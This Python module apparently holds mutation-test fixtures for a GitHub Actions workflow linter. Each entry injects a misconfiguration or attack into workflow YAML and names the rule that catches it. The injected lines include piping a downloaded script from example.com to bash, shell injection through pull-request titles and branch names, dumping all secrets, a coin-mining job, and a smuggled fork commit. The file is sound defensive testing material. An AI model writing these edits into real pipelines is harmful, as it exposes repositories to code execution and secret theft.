"""Mistakes and attacks: what somebody, or a generator gone wrong, might write into a workflow.

Each is one sentence, the rule that must catch it, and an edit of the text. `of` names the projects whose workflow has
the place; every one of them is edited.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass

from xptasks.ci import delivering, github

Edit = Callable[[str], str]
ALL = ("own", "small", "hosted", "whole")
SCHEDULED = ("own", "hosted")
DELIVERING = ("own", "whole")
LANDING = ("hosted", "whole")
SCANNING = ("own", "whole")
EVIL = "0123456789abcdef0123456789abcdef01234567"


@dataclass(frozen=True)
class Mutant:
    sentence: str
    rule: str
    edit: Edit
    of: tuple[str, ...] = ALL
    file: str = github.FILE


def put(old: str, new: str, *, job: str = "") -> Edit:
    """Replace the first place, in one job if it is named; `old` is a regular expression over lines."""

    def edit(text: str) -> str:
        start = re.search(rf"^  {job}:$", text, re.MULTILINE) if job else None
        begin = start.start() if start else 0
        return text[:begin] + re.sub(old, new, text[begin:], count=1, flags=re.MULTILINE)

    return edit


def after(line: str, added: str, *, job: str = "") -> Edit:
    """Add text below the first line that a regular expression matches."""
    escaped = added.replace("\\", "\\\\")
    return put(rf"(^{line}$)", rf"\1\n{escaped}", job=job)


def cut(job: str) -> Edit:
    """Take a job out, comment and all."""
    return put(rf"^(  # .*\n)+  {job}:\n(?:    .*\n)+\n?", "")


def cut_step(name: str, *, job: str = "") -> Edit:
    """Take a step out."""
    return put(rf"^      - name: {name}\n(?:        .*\n)+", "", job=job)


TIER = r"^        run: .*nox -s \"\$TIER\"$"
CHECKOUT = r"^        uses: actions/checkout@.*$"
DELIVER = delivering.FILE

MUTANTS = (
    # actions
    Mutant("An action is pinned to a tag, which its owner or a thief may move.", "action-not-pinned",
           put(r"(actions/checkout)@.*$", r"\1@v7")),
    Mutant("An action follows a branch.", "action-not-pinned", put(r"(actions/cache)@.*$", r"\1@main")),
    Mutant("An action is pinned to an abbreviated commit, which may become ambiguous.", "action-not-pinned",
           put(r"(actions/setup-python@[0-9a-f]{12})[0-9a-f]+", r"\1")),
    Mutant("A commit of a fork is smuggled in under a tag's comment: GitHub serves it as if it were the action's.",
           "action-not-in-record", put(r"(actions/upload-artifact@)[0-9a-f]{40}", rf"\g<1>{EVIL}")),
    Mutant("The comment promises another version than the one that runs.", "action-tag",
           put(r"# v7\.0\.1", "# v8.0.0")),
    Mutant("The comment with the version is lost, so nobody sees what is old.", "action-tag",
           put(r"(actions/checkout@[0-9a-f]{40})  # v7\.0\.1", r"\1")),
    Mutant("A third party's action sets up Python faster.", "action-third-party",
           put(r"actions/setup-python@[0-9a-f]{40}", f"astral-sh/setup-uv@{EVIL}")),
    Mutant("A typo names an owner that somebody else registered.", "action-third-party",
           put(r"actions/checkout@", "action/checkout@")),
    Mutant("An image from a registry runs as an action.", "action-third-party",
           put(r"actions/cache@[0-9a-f]{40}", "docker://alpine:3")),
    Mutant("An action of the checked-out change runs in the gate's place.", "action-local",
           put(r"^        uses: actions/cache@.*$", "        uses: ./.github/actions/cache")),
    Mutant("The token stays in .git/config for every later command.", "credentials-kept",
           put("persist-credentials: false", "persist-credentials: true", job="gate")),
    Mutant("A checkout says nothing about the token, which means that it stays.", "credentials-kept",
           put("          persist-credentials: false\n          fetch-depth", "          fetch-depth")),
    Mutant("The guard of actions/checkout against running a fork's code is switched off.", "action-unsafe",
           after("          persist-credentials: false", "          allow-unsafe-pr-checkout: true", job="gate")),
    Mutant("Results of runs are cached, so a change can plant a green result for the trunk.", "cache-of-results",
           put(r"~/\.cache/pip", ".xp/cache")),
    # permissions, secrets, machines, time
    Mutant("The top-level permissions are dropped, so jobs get the repository's default.", "permissions-missing",
           put(r"^permissions: \{\}\n", "")),
    Mutant("Every job may do everything.", "permissions-all", put(r"^permissions: \{\}", "permissions: write-all")),
    Mutant("Every job may read everything, private packages included.", "permissions-all",
           put(r"^permissions: \{\}", "permissions: read-all")),
    Mutant("A right is granted at the top, once for all.", "permissions-at-the-top",
           put(r"^permissions: \{\}", "permissions:\n  contents: read")),
    Mutant("The gate, which runs the change's code, may push.", "permissions-more",
           put("      contents: read", "      contents: write", job="gate")),
    Mutant("The gate may approve and merge pull requests.", "permissions-more",
           after("      contents: read", "      pull-requests: write", job="gate")),
    Mutant("The verdict gets a token that it has no use for.", "permissions-more",
           put(r"    permissions: \{\}", "    permissions:\n      checks: write", job="required")),
    Mutant("A job does not say what it may do.", "permissions-more",
           put(r"    permissions:\n      contents: read\n", "", job="plan")),
    Mutant("Any change may ask for an OIDC token and so for the cloud account.", "oidc-for-changes",
           after("      contents: read", "      id-token: write", job="gate")),
    Mutant("A secret is handed to the tier that runs a change's code.", "secret-for-changes",
           after(r"          TIER: \$\{\{ matrix.tier \}\}", "          TOKEN: ${{ secrets.DEPLOY_TOKEN }}")),
    Mutant("A secret is handed to every job by the workflow's own variables.", "secret-for-changes",
           put(r"^defaults:", "env:\n  TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n\ndefaults:")),
    Mutant("All secrets are written into a variable.", "secrets-inherited",
           put(r"\$\{\{ matrix.tier \}\}$", "${{ toJSON(secrets) }}", job="gate")),
    Mutant("A job has no time limit.", "timeout-missing", put("    timeout-minutes: 10\n", "", job="plan")),
    Mutant("A time limit is as long as having none.", "timeout-missing",
           put("timeout-minutes: 10$", "timeout-minutes: 360", job="plan")),
    Mutant("Changes, those of strangers too, run on a machine of our own.", "machine-for-changes",
           put(r"runs-on: ubuntu-2\d\.04", "runs-on: [self-hosted, linux]", job="gate")),
    Mutant("The change chooses the machine that it runs on.", "machine-for-changes",
           put(r"runs-on: ubuntu-2\d\.04", "runs-on: ${{ matrix.tier }}", job="gate")),
    Mutant("The gate moves to another image, where other tools are.", "machine-changed",
           put(r"runs-on: ubuntu-2\d\.04", "runs-on: ubuntu-latest", job="gate")),
    Mutant("The gate runs in an image that somebody may replace.", "container",
           after("    needs: \\[plan\\]", "    container: python:3", job="gate")),
    # triggers
    Mutant("Changes run with the repository's rights and secrets.", "trigger-dangerous",
           put("^  pull_request:", "  pull_request_target:")),
    Mutant("A comment of anybody starts the workflow.", "trigger-dangerous",
           after("  merge_group:", "  issue_comment:")),
    Mutant("The merge queue waits for ever.", "trigger-missing", put("^  merge_group:\n", "")),
    Mutant("Changes are not checked at all.", "trigger-missing",
           put(r"^  pull_request:\n(    .*\n)+", "")),
    Mutant("The trunk is not checked, and nothing is delivered.", "trigger-missing", put(r"^  push:\n(    .*\n)+", "")),
    Mutant("A change is checked when it is opened, and not when it is pushed again.", "trigger-missing",
           put("opened, synchronize, reopened", "opened")),
    Mutant("Changes to documents skip the required check, which then never comes.", "trigger-filtered",
           after(r"  pull_request:", "    paths-ignore: [docs/**]")),
    Mutant("Any branch runs as if it were the trunk.", "trigger-filtered",
           put(r"(  push:\n    branches: )\[\w+\]", r'\1["**"]')),
    Mutant("The nightly tier is silently dropped.", "schedule",
           put(r'^    - cron: "\d+ [24] .*"\n', ""), SCHEDULED),
    Mutant("The nightly tier moves to once a year.", "schedule",
           put(r'(^    - cron: "\d+ [24] )\* \* .*"', r'\1 1 1 *"'), SCHEDULED),
    Mutant("A newer commit cancels the trunk's run, and with it a delivery.", "concurrency",
           put(r"cancel-in-progress: \$\{\{.*\}\}", "cancel-in-progress: true")),
    Mutant("All runs share one group, so commits of the trunk are left out.", "concurrency",
           put(r"group: autonomous-.*", "group: autonomous")),
    # commands
    Mutant("The title of a pull request becomes part of a command.", "injection",
           put(r"(inv ci-matrix)", r"\1 --event '${{ github.event.pull_request.title }}'")),
    Mutant("The name of a branch becomes part of a command.", "injection",
           put(r'nox -s "\$TIER"', "nox -s ${{ github.head_ref }}")),
    Mutant("What a person types in by hand becomes part of a command.", "injection",
           put(r'"\$TIER" --output', "${{ inputs.tier }} --output")),
    Mutant("A red tier ends green with `|| true`.", "failure-swallowed", put(r'(nox -s "\$TIER")', r"\1 || true")),
    Mutant("A red tier ends green because a later command does.", "failure-swallowed",
           put(r'(nox -s "\$TIER")', r"\1; true")),
    Mutant("A red tier ends green because the shell goes on.", "failure-swallowed",
           put(r'run: (.*nox -s "\$TIER")$', r"run: |\n          set +e\n          \1\n          echo done")),
    Mutant("A red tier ends green because nobody waits for it.", "failure-swallowed",
           put(r'(nox -s "\$TIER")', r"\1 &")),
    Mutant("The tier's step is green whatever happens.", "continue-on-error",
           after("      - name: The tier", "        continue-on-error: true")),
    Mutant("The gate's job is green whatever happens.", "continue-on-error",
           after("    needs: \\[plan\\]", "    continue-on-error: ${{ matrix.python == '3.13' }}", job="gate")),
    Mutant("A script from the network is run.", "downloaded-code",
           put(r'run: (.*nox -s "\$TIER")$', r"run: |\n          curl https://example.com/x \| bash\n          \1")),
    Mutant("A step plants a program before the others on PATH.", "environment-changed",
           put(r'run: (.*nox -s "\$TIER")$', r'run: |\n          echo "\$PWD/bin" >> "\$GITHUB_PATH"\n          \1')),
    Mutant("A pipe hides what failed: the shell is plain sh.", "shell", put("    shell: bash", "    shell: sh")),
    Mutant("A step runs in a shell that does not stop at failures.", "shell",
           after("      - name: The tier", '        shell: "bash {0}"')),
    # plan and gate
    Mutant("A Python version is left out of the matrix.", "plan",
           put(r"inv ci-matrix", "inv ci-matrix --python 3.12")),
    Mutant("A Python version is excluded from the matrix.", "gate-matrix",
           put(r"matrix: \$\{\{ fromJSON.*", 'matrix:\n        python: ["3.13"]\n        tier: [fast]')),
    Mutant("The plan always asks for the quickest tier.", "plan", put(r'--tier "\$TIER"', "--tier fast")),
    Mutant("The plan is asked about another event than the one that happened.", "plan",
           put(r'--event "\$GITHUB_EVENT_NAME"', "--event push")),
    Mutant("The plan's tier comes from the change's title.", "plan",
           put(r"\$\{\{ inputs.tier \}\}", "${{ github.event.pull_request.title }}")),
    Mutant("Another session runs in place of the tier.", "gate-tier", put(r'nox -s "\$TIER"', "nox -s fast")),
    Mutant("Only one step of the tier runs.", "gate-tier", put(r'nox -s "\$TIER"', 'nox -s "$TIER" -- lint')),
    Mutant("The tier is only installed and not run.", "gate-tier",
           put(r'nox -s "\$TIER"', 'nox -s "$TIER" --install-only')),
    Mutant("The tier runs only for some people's changes.", "gate-tier",
           after("      - name: The tier", "        if: ${{ github.actor != 'dependabot[bot]' }}")),
    Mutant("The gate is skipped for drafts, and a skipped job counts as green.", "gate-tier",
           after("    needs: \\[plan\\]", "    if: ${{ !github.event.pull_request.draft }}", job="gate")),
    Mutant("The tier's steps are overridden by a variable.", "gate-overridden",
           after(r"          TIER: \$\{\{ matrix.tier \}\}", "          XPTASKS_TIERS__PR__STEPS: lint")),
    Mutant("Tests are deselected by pytest's own variable.", "gate-overridden",
           put(r"^defaults:", "env:\n  PYTEST_ADDOPTS: -k nothing\n\ndefaults:")),
    Mutant("Code from the change takes the place of what is installed.", "gate-overridden",
           after(r"          TIER: \$\{\{ matrix.tier \}\}", "          PYTHONPATH: evil")),
    Mutant("The history is cut off, so that nothing is compared with the trunk.", "gate-checkout",
           put("fetch-depth: 0", "fetch-depth: 1")),
    Mutant("The gate checks the trunk in place of the change.", "gate-checkout",
           after("          fetch-depth: 0", "          ref: main")),
    Mutant("Every job of the matrix runs on the same Python.", "gate-python",
           put(r"python-version: \$\{\{ matrix.python \}\}", 'python-version: "3.13"')),
    Mutant("xptasks is installed from wherever its name leads, without hashes.", "gate-setup",
           put(r"(- name: Set up\n        run: )(\|\n)?.*", r"\1\2          pip install xptasks nox", job="gate")),
    Mutant("A step between set-up and tier changes what is checked.", "gate-steps",
           put("^      - name: The tier",
               "      - name: Small fix\n        run: git checkout -- tests\n      - name: The tier")),
    Mutant("Results of red runs are not kept.", "gate-results",
           put(r"^        if: \$\{\{ !cancelled\(\) \}\}\n(        uses: actions/upload)", r"\1")),
    Mutant("Nothing is kept, because the folder is hidden.", "gate-results",
           put("          include-hidden-files: true\n", "")),
    Mutant("The time limit is shorter than the tier's budget, so that long tests never end.", "gate-matrix",
           put(r"timeout-minutes: \$\{\{ matrix.minutes \}\}", "timeout-minutes: 1")),
    # the verdict
    Mutant("The verdict is skipped when a job failed, and a skipped check is green.", "required",
           put(r"    if: \$\{\{ always\(\) \}\}\n", "", job="required")),
    Mutant("The verdict is skipped when the run was cancelled.", "required",
           put(r"always\(\)", "!cancelled()", job="required")),
    Mutant("The verdict runs always, but not for drafts.", "required",
           put(r"always\(\)", "always() && !github.event.pull_request.draft", job="required")),
    Mutant("The verdict does not wait for the gate.", "required",
           put(r"needs: \[plan, gate\]", "needs: [plan]", job="required")),
    Mutant("The verdict takes skipped for green.", "required",
           put(r'\.result == "success"', '.result != "failure"', job="required")),
    Mutant("The verdict only looks whether any job was green.", "required", put(r"all\(", "any(", job="required")),
    Mutant("The verdict is green when there is nothing to look at.", "required",
           put(r"length > 0 and ", "", job="required")),
    Mutant("The verdict looks at a text that is always green.", "required",
           put(r"\$\{\{ toJSON\(needs\) \}\}", '\'{"gate":{"result":"success"}}\'', job="required")),
    Mutant("The required check gets another name, so the branch rule waits for one that never comes.", "required",
           put("    name: .*", "    name: all green", job="required")),
    Mutant("The verdict is gone.", "jobs", cut("required")),
    Mutant("A job that nobody generates mines coins.", "jobs",
           put(r"^jobs:", "jobs:\n  extra:\n    runs-on: ubuntu-24.04\n    permissions: {}\n    timeout-minutes: 5\n"
               "    steps:\n      - name: One\n        run: ./mine\n")),
    # landing
    Mutant("A fork's change is armed to land.", "land-guard",
           put(r" && github.event.pull_request.head.repo.full_name == github.repository", "", job="land"), LANDING),
    Mutant("A fork's change is armed to land by an alternative.", "land-guard",
           put(r"(head.repo.full_name == github.repository)", r"\1 || github.actor == 'ann'", job="land"), LANDING),
    Mutant("The guard is turned round.", "land-guard",
           put(r"(head.repo.full_name) ==", r"\1 !=", job="land"), LANDING),
    Mutant("The change's own code runs with the token that merges.", "land-checkout",
           put(r"pull_request.base.sha", "pull_request.head.sha", job="land"), LANDING),
    Mutant("Whatever was pushed meanwhile is armed.", "land-head", put(r' --head "\$HEAD"', "", job="land"), LANDING),
    Mutant("The arming job is dropped, and changes wait for people.", "land", cut("land"), LANDING),
    Mutant("The token that merges may also change workflows and settings.", "permissions-more",
           after(r"      pull-requests: write.*", "      actions: write", job="land"), ("hosted",)),
    # telling
    Mutant("Failures of the night are told only when there are none.", "report-red",
           put(r"!cancelled\(\) && ", "", job="failures"), SCHEDULED),
    Mutant("Every pull request opens issues.", "report-event",
           put(r" && github.event_name == 'schedule'", "", job="failures"), SCHEDULED),
    Mutant("Nobody is told about failures of the night.", "report", cut("failures"), SCHEDULED),
    Mutant("The job that opens issues may push as well.", "permissions-more",
           put("      contents: read", "      contents: write", job="failures"), SCHEDULED),
    Mutant("Code scanning is asked to take what a fork found, and fails for every fork.", "report-event",
           put(r"github.event.pull_request.head.repo.full_name == github.repository", "true", job="scan"), SCANNING),
    Mutant("The history's database is opened to pull requests.", "secret-for-changes",
           put(r" && github.event_name == 'push'", "", job="history"), ("whole",)),
    Mutant("The history's secret is held by no environment.", "report-environment",
           put("    environment: history\n", "", job="history"), ("whole",)),
    Mutant("The history is fed by a script of the change.", "report-command",
           put(r"^        run: .*inv history-import.*", "        run: ./import", job="history"), ("whole",)),
    # delivery, the caller
    Mutant("A commit is delivered that did not pass.", "deliver-gated",
           put(r"needs: \[required\]", "needs: [plan]", job="deliver"), DELIVERING),
    Mutant("A commit is delivered although its gate was red.", "deliver-gated",
           put(r"if: \$\{\{ github", "if: ${{ always() && github", job="deliver"), DELIVERING),
    Mutant("Any branch is delivered.", "deliver-gated",
           put(r" && github.ref == 'refs/heads/main'", "", job="deliver"), DELIVERING),
    Mutant("A pull request is delivered.", "deliver-gated",
           put(r"github.event_name == 'push'", "github.event_name == 'pull_request'", job="deliver"), DELIVERING),
    Mutant("The switch that stops deliveries is wired to nothing.", "deliver-gated",
           put(r" && vars.XPTASKS_DEPLOY == 'true'", "", job="deliver"), ("own",)),
    Mutant("A delivery is cut off by the next commit.", "deliver-alone",
           put("cancel-in-progress: false", "cancel-in-progress: true", job="deliver"), DELIVERING),
    Mutant("Two commits are delivered at once.", "deliver-alone",
           put("group: deliver", "group: deliver-${{ github.sha }}", job="deliver"), DELIVERING),
    Mutant("Another repository's workflow delivers.", "deliver-gated",
           put(r"uses: \$/.github/workflows/deliver.yml", f"uses: actions/deploy/.github/workflows/x.yml@{EVIL}",
               job="deliver"), DELIVERING),
    Mutant("Every secret of the repository is handed to the delivery.", "secrets-inherited",
           put(r"(    uses: \$/.*)(\n    secrets:(\n      .*)+)?", r"\1\n    secrets: inherit", job="deliver"),
           DELIVERING),
    Mutant("The rollback does not run when somebody cancels.", "rollback",
           put(r" \|\| needs.deliver.result == 'cancelled'", "", job="rollback"), DELIVERING),
    Mutant("The rollback runs only when nothing failed.", "rollback",
           put(r"always\(\) && ", "", job="rollback"), DELIVERING),
    Mutant("The rollback waits for somebody who approves.", "rollback",
           put("    environment: rollback", "    environment: production", job="rollback"), DELIVERING),
    Mutant("The rollback takes back whatever is there, also the next commit's.", "rollback",
           put(r'deploy-undo --rev "\$GITHUB_SHA"', "rollback", job="rollback"), DELIVERING),
    Mutant("The rollback is gone.", "deliver", cut("rollback"), DELIVERING),
    Mutant("The rollback is superseded by the next one while it waits.", "deliver-alone",
           after("    environment: rollback", "    concurrency: rollback", job="rollback"), DELIVERING),
    # delivery, the called workflow
    Mutant("A release is built with what a cache holds.", "deliver-cache",
           after('          python-version: "3.1\\d"', "          cache: pip", job="canary"), DELIVERING, DELIVER),
    Mutant("Anybody who may start workflows deploys whatever branch they like.", "deliver-called",
           after("  workflow_call:", "  workflow_dispatch:"), DELIVERING, DELIVER),
    Mutant("A pull request deploys.", "machine-for-changes",
           after("  workflow_call:", "  pull_request:"), ("own",), DELIVER),
    Mutant("All traffic is given before anybody looked.", "deliver-order",
           put(r"needs: \[observe\]", "needs: [canary]", job="promote"), DELIVERING, DELIVER),
    Mutant("Promotion happens although the observation failed.", "deliver-order",
           after(r"    needs: \[observe\]", "    if: ${{ always() }}", job="promote"), DELIVERING, DELIVER),
    Mutant("The observation is cut out.", "deliver-called", cut("observe"), DELIVERING, DELIVER),
    Mutant("The observation ends at once.", "deliver-stages",
           put("--until observed", "--until canary", job="observe"), DELIVERING, DELIVER),
    Mutant("The promotion is held by no environment, so none of its rules count.", "deliver-stages",
           put("    environment: production\n", "", job="promote"), DELIVERING, DELIVER),
    Mutant("The canary promotes itself before anybody observed it.", "deliver-stages",
           put(" --confirm", "", job="canary"), DELIVERING, DELIVER),
    Mutant("Another commit is deployed than the one that passed.", "deliver-stages",
           put(r'(deploy-\S+) --rev "\$GITHUB_SHA"', r"\1 --rev origin/main", job="canary"), DELIVERING, DELIVER),
    Mutant("The deploying job may also write to the repository.", "deliver-rights",
           put("      contents: read", "      contents: write", job="canary"), DELIVERING, DELIVER),
    Mutant("A token for the cloud is asked for where none is configured.", "deliver-rights",
           after("      contents: read", "      id-token: write", job="observe"), ("own",), DELIVER),
    Mutant("The machine's folder is cleaned under the feet of the watcher that runs from it.", "deliver-checkout",
           put("clean: false", "clean: true", job="observe"), DELIVERING, DELIVER),
    Mutant("A deployment runs on a machine of GitHub's, where no journal is.", "deliver-stages",
           put(r"runs-on: \[self-hosted, .*\]", "runs-on: ubuntu-24.04", job="canary"), DELIVERING, DELIVER),
    Mutant("The observation is stopped before the shares were held.", "deliver-stages",
           put(r"timeout-minutes: \d+", "timeout-minutes: 2", job="observe"), DELIVERING, DELIVER),
    Mutant("A secret that nobody configured is read while deploying.", "deliver-secrets",
           after(r"    environment: production", "    env:\n      A: ${{ secrets.ADMIN }}", job="promote"),
           ("own",), DELIVER),
    Mutant("A deployment installs xptasks from wherever its name leads.", "deliver-setup",
           put(r"(- name: Set up\n        run: )(\|\n)?.*", r"\1\2          pip install xptasks nox", job="canary"),
           DELIVERING, DELIVER),
    Mutant("The arming job checks out the change's branch with a token that may write.", "checkout-of-change",
           put(r"github.event.pull_request.base.sha", "github.head_ref", job="land"), LANDING),
    Mutant("The app's key lies open to every job of the repository.", "land-app",
           put(r"    environment: landing\n", "", job="land"), ("whole",)),
    Mutant("A label does not arm a change any more.", "land-app", put(", labeled", ""), LANDING),
    Mutant("The app's token may do all that the app may.", "job-inputs",
           put("(          permission-.*\n)+", ""), ("whole",)),
    Mutant("Results of one Python overwrite those of another.", "job-inputs",
           put(r"name: gate-.*", "name: gate", job="gate")),
    Mutant("The issues are opened by a token that somebody typed in.", "job-variables",
           put(r"GITHUB_TOKEN: .*", "GITHUB_TOKEN: ghp_0123456789", job="failures"), SCHEDULED),
    Mutant("The rollback gets none of the secrets that it needs.", "job-variables",
           put(r"    env:\n(      .*_TOKEN.*\n)+", "", job="rollback"), ("whole",)),
    Mutant("Code scanning lacks the right to write, so nothing arrives.", "job-rights",
           put(r"      security-events: write.*\n", "", job="scan"), SCANNING),
    Mutant("The delivery waits for a person's name.", "job-condition",
           put(r"( && github.ref == 'refs/heads/main')", r"\1 && github.actor == 'ann'", job="deliver"), DELIVERING),
    Mutant("The first share is not waited for.", "job-commands",
           put(r"^      - name: First share\n        run: .*\n", "", job="canary"), DELIVERING, DELIVER),
    Mutant("Code scanning gets nothing, because nothing is fetched.", "job-steps",
           cut_step("Results", job="scan"), SCANNING),
    Mutant("Anything may be typed in for the tier.", "trigger-by-hand",
           put("        type: choice", "        type: string")),
    Mutant("Tiers that take long cannot be started by hand.", "trigger-by-hand",
           put(r"        options: .*", "        options: [fast]"), ("own", "hosted")),
    Mutant("A release is built by another Python than the one that passed.", "deliver-python",
           put('python-version: "3.1[0-9]"', 'python-version: "3.9"'), DELIVERING, DELIVER),
    Mutant("The called workflow takes secrets that nobody configured.", "deliver-handed",
           after("  workflow_call:", "    secrets:\n      ADMIN:\n        required: true"), ("own",), DELIVER),
    # the file itself
    Mutant("A key stands twice, and the second one counts.", "workflow-syntax",
           put(r"^permissions: \{\}", "permissions: {}\npermissions: write-all")),
)  # fmt: skip
